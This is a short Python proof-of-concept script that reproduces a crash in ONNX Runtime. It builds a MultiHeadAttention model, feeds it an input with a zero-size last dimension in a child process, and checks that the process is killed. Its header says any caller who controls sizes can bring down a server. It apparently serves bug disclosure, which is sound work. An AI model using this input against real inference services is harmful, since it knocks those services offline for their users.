"""ONNX Runtime: a depth of 0 ends the process of MultiHeadAttention (ERR-5).

Rank: memory
Impact: any caller who can choose the sizes can end the process, a server too.
"""

import subprocess
import sys

SCRIPT = """
import numpy as np, onnxruntime
from onnx.parser import parse_model
model = parse_model('''<ir_version: 10, opset_import: ["" : 23, "com.microsoft" : 1]>
g (float[1,2,N] Q) => (float[1,2,N] Y) { Y = com.microsoft.MultiHeadAttention<num_heads = 2>(Q, Q, Q) }''')
session = onnxruntime.InferenceSession(model.SerializeToString())
session.run(None, {"Q": np.ones((1, 2, 0), np.float32)})
"""
command = [sys.executable, "-c", SCRIPT]
ended = subprocess.run(command, capture_output=True, text=True, check=False)  # noqa: S603 - ourselves
print("expected an error: the depth is 0")
print(f"got exit status {ended.returncode}")
sys.exit(0 if ended.returncode < 0 else 1)
